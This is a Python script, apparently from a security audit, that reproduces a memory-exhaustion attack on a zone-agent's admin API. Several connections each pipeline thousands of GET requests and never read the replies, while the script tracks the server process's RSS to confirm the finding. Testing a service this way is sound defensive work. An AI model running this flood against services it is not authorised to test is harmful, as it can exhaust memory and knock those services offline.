#!/usr/bin/env python3
"""The admin API attack of issue 9, finding 4, against a running zone-agent: CLIENTS connections each pipeline
REQUESTS requests without reading a byte of the answers. Prints the process's RSS before, at its peak during the
attack, and after the clients have gone, plus how much of the requests the server took.

usage: admin-pipelining.py PID HOST PORT [PATH] [CLIENTS] [REQUESTS] [SETTLE]   (defaults: /metrics 4 20000 15)
SETTLE: seconds the clients stay connected, still not reading, after sending.
"""
import socket
import sys
import time


def rss_mb(pid):
    with open(f"/proc/{pid}/status") as f:
        for line in f:
            if line.startswith("VmRSS:"):
                return int(line.split()[1]) / 1024
    return float("nan")


def main():
    pid, host, port = int(sys.argv[1]), sys.argv[2], int(sys.argv[3])
    path = sys.argv[4] if len(sys.argv) > 4 else "/metrics"
    clients = int(sys.argv[5]) if len(sys.argv) > 5 else 4
    requests = int(sys.argv[6]) if len(sys.argv) > 6 else 20000
    settle_seconds = float(sys.argv[7]) if len(sys.argv) > 7 else 15
    payload = (f"GET {path} HTTP/1.1\r\nHost: admin\r\n\r\n").encode() * requests
    before = rss_mb(pid)
    sockets, sent = [], []
    for _ in range(clients):
        s = socket.create_connection((host, port), timeout=5)
        s.setblocking(False)
        sockets.append(s)
        sent.append(0)
    peak = before
    last_progress = time.monotonic()
    deadline = time.monotonic() + 30
    # Send until everything is sent or the server has taken nothing for 3 s (it stopped reading); never read.
    while time.monotonic() < deadline and time.monotonic() - last_progress < 3:
        progressed = False
        for i, s in enumerate(sockets):
            if sent[i] >= len(payload):
                continue
            try:
                n = s.send(payload[sent[i]:sent[i] + 65536])
                if n > 0:
                    sent[i] += n
                    progressed = True
            except BlockingIOError:
                pass
            except OSError:
                sent[i] = len(payload)
        if progressed:
            last_progress = time.monotonic()
        if all(x >= len(payload) for x in sent):
            break
        peak = max(peak, rss_mb(pid))
        time.sleep(0.01)
    # Let the server do what it will with what it has, still without reading.
    settle = time.monotonic() + settle_seconds
    while time.monotonic() < settle:
        peak = max(peak, rss_mb(pid))
        time.sleep(0.1)
    during = rss_mb(pid)
    for s in sockets:
        s.close()
    time.sleep(5)
    after = rss_mb(pid)
    taken = sum(sent) / len(payload) / clients * 100
    print(f"{clients} clients x {requests} pipelined GET {path}, never reading: "
          f"the server took {taken:.0f}% of the request bytes")
    print(f"RSS before {before:.1f} MB, peak during {peak:.1f} MB, at the end of the attack {during:.1f} MB, "
          f"5 s after the clients left {after:.1f} MB")


if __name__ == "__main__":
    main()
